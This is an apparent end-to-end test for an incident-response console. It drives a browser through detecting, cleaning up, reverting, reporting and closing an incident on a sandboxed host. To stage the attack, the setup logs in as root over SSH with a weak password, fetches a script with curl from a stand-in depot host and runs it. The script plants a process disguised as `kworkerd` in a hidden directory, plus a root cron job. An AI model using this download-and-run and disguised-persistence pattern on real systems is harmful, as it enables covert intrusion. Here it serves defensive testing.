/** An incident followed in the console, from the alarm to the applied plan, its undoing, the report and the closed incident: by a browser, on a host that was really attacked. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, launchOptions, openPage } from '../console/browser.ts';
import { expectClean } from '../console/given.ts';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario } from '../scenario-host.ts';
import { attacker, depot, type Scene, serveFiles, serveSsh, ssh, startScene } from './scene.ts';

const word = 'harbour2024';
const owner = { name: 'lin', password: 'boats cross the moat' };
/** `MOAT_SHOTS=FOLDER` keeps pictures of what is seen on the way. */
const shots = process.env['MOAT_SHOTS'];

describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/python3', chromiumPath]) || await lacksKernel())('an incident in the console', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;
  let browser: Browser;

  beforeAll(async () => {
    execFileSync(process.execPath, [join(import.meta.dirname, '../../tools/build-console.mjs')], { stdio: 'ignore' });
    scene = await startScene({ yaml: 'server: { enabled: true, port: 8443 }', ready: (host) => serveSsh(host, word) });
    writeFileSync(join(kit, 'go.sh'), "#!/bin/bash\nmkdir -p /usr/lib/.cache-d\ncp /bin/sleep /usr/lib/.cache-d/kworkerd\nsetsid /usr/lib/.cache-d/kworkerd 3000 > /dev/null 2>&1 < /dev/null &\nprintf '*/5 * * * * root /usr/lib/.cache-d/kworkerd 60\\n' > /etc/cron.d/cache-d\n");
    await serveFiles(scene.host, kit);
    // The browser stands in the host's network, where its server listens on loopback.
    const inside = join(kit, 'chromium');
    writeFileSync(inside, `#!/bin/sh\nexec nsenter --net=/proc/${scene.host.pid}/ns/net ${chromiumPath} "$@"\n`, { mode: 0o755 });
    browser = await chromium.launch({ ...launchOptions, executablePath: inside });
  });
  afterAll(async () => {
    await browser?.close();
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is read, cleaned up, brought back, reported and closed', async () => {
    const { host } = scene;
    const cron = join(host.root, 'etc/cron.d/cache-d');
    const seen = async (page: Page, name: string): Promise<void> => {
      if (shots === undefined) return;
      mkdirSync(shots, { recursive: true });
      await page.waitForTimeout(500);
      await page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });
    };
    const running = (): boolean => [...host.processes().values()].some((line) => line.startsWith('/usr/lib/.cache-d/kworkerd'));
    expect(await ssh(host, attacker, 'root', word, `cd /tmp && curl -fsS http://${depot}/go.sh -o go.sh && bash go.sh`)).toMatchObject({ code: 0 });
    const { id } = await scene.until('one incident that holds the planted job', () => scene.incidents().find(({ keys }) => keys.some((key) => key.includes('cache-d'))));

    const link = /https:\/\/\S+\/setup#[\w-]+/.exec(scene.watch.said())![0].replace('127.0.0.1', 'localhost');
    const opened = await openPage(browser, { url: new URL(link).origin, cookie: '' }, `/setup${new URL(link).hash}`, { width: 1440, height: 900 });
    const { page } = opened;
    await page.getByLabel('Account').fill(owner.name);
    await page.getByLabel('Password', { exact: true }).fill(owner.password);
    await page.getByLabel('The password once more').fill(owner.password);
    await page.getByRole('button', { name: 'Create and go on' }).click();
    await page.getByRole('button', { name: 'Later' }).click();
    // Nobody was logged on before: the browser says so, and only that.
    expect(opened.faults.filter((fault) => !fault.includes('401'))).toEqual([]);
    opened.faults.length = 0;

    await page.getByRole('link', { name: 'Incidents' }).click();
    await page.locator(`[data-row-key="${id}"]`).click();
    await page.locator('.mi-entry').getByText(attacker).first().waitFor();
    await page.locator('.mi-box-entry').waitFor();
    await page.locator('.mi-box-persistence').first().waitFor();
    expect(await page.locator('.mi-box').count()).toBeGreaterThan(3);
    await page.locator('.mi-timeline').getByText('/etc/cron.d/cache-d').first().waitFor();
    await page.locator('.mi-box-persistence').first().click();
    await page.getByRole('dialog').getByText('/etc/cron.d/cache-d').first().waitFor();
    await seen(page, 'node');
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    await seen(page, 'story');
    await expectClean(opened);

    await page.getByLabel('Add a note').fill('Called the owner of the depot');
    await page.getByRole('button', { name: 'Add a note' }).click();
    await page.locator('.mi-notes').getByText('Called the owner of the depot').waitFor();

    await page.getByRole('navigation', { name: 'Parts of the incident' }).getByRole('link', { name: 'Clean-up' }).click();
    await page.getByRole('button', { name: 'Work out the clean-up' }).click();
    const unfinished = page.locator('.mi-plan-step:not(.mi-plan-applied):not(.mi-plan-ended)');
    const idle = page.getByRole('status').filter({ hasText: /Step \d+ of/ });
    /** Those that go together, then each that asks for a yes of its own. */
    const doAll = async (): Promise<void> => {
      await page.locator('.mi-plan-step').first().waitFor();
      for (let first = true; await unfinished.count() > 0; first = false) {
        await (first ? page.getByRole('button', { name: /^Do \d+ steps?$/ }) : unfinished.first().getByRole('button', { name: 'Do it' })).click();
        if (first) await seen(page, 'sure');
        await page.getByRole('dialog').getByRole('button', { name: 'Do it' }).click();
        await page.getByRole('dialog').waitFor({ state: 'detached' });
        await idle.waitFor({ state: 'detached' });
        expect(await page.locator('.ant-alert-error').allInnerTexts()).toEqual([]);
      }
    };
    expect(existsSync(cron)).toBe(true);
    await doAll();
    expect(existsSync(cron)).toBe(false);
    expect(running()).toBe(false);
    await page.getByRole('button', { name: 'Look again' }).click();
    await page.getByText('Clean: nothing of it runs, nothing came back').waitFor();
    await seen(page, 'plan');
    await expectClean(opened);

    await page.getByRole('button', { name: 'Take all back' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Take back' }).click();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await idle.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Take all back' }).waitFor({ state: 'detached' });
    expect(readFileSync(cron, 'utf8')).toContain('kworkerd 60');
    await doAll();
    expect(existsSync(cron)).toBe(false);

    await page.getByRole('navigation', { name: 'Parts of the incident' }).getByRole('link', { name: 'Report' }).click();
    const report = page.frameLocator('iframe.mi-report');
    await report.getByText('/etc/cron.d/cache-d').first().waitFor();
    await seen(page, 'report');
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Markdown' }).click()]);
    expect(readFileSync(await file.path(), 'utf8')).toContain('/etc/cron.d/cache-d');
    await expectClean(opened);

    for (const [deed, stands] of [['Take it on', 'Triaged'], ['It is contained', 'Contained'], ['It is cleaned up', 'Eradicated'], ['It is recovered', 'Recovered']] as const) {
      await page.getByRole('button', { name: deed, exact: true }).click();
      await page.locator('.mi-path-now', { hasText: stands }).waitFor();
    }
    await page.getByRole('button', { name: 'Close it', exact: true }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Close it' }).click();
    await page.getByRole('button', { name: 'Reopen' }).waitFor();
    expect(scene.json<{ status: string }>('incident', 'show', id)[0]).toMatchObject({ status: 'closed' });
    expect(opened.faults).toEqual([]);
    await opened.close();
  });
});
